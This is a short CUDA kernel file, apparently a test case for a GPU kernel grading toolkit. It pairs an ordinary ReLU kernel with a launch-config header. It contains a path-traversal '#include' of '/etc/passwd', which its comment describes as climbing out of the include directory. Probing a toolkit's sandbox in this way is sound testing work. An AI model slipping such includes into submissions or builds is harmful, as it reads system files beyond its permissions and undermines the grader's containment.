/* sadoku
problem = "relu"

# Climbs out of the toolkit's include directory (or the working directory) with `..`.
[[launch]]
kernel = "relu_leak"
grid = ["cdiv(B * D, 256)", 1, 1]
block = [256, 1, 1]
args = ["x", "y", "B * D"]
*/
#include "../../../../../../../../../../etc/passwd"
extern "C" __global__ void relu_leak(const float* x, float* y, long long n) {
    long long i = (long long)blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) y[i] = fmaxf(x[i], 0.0f);
}
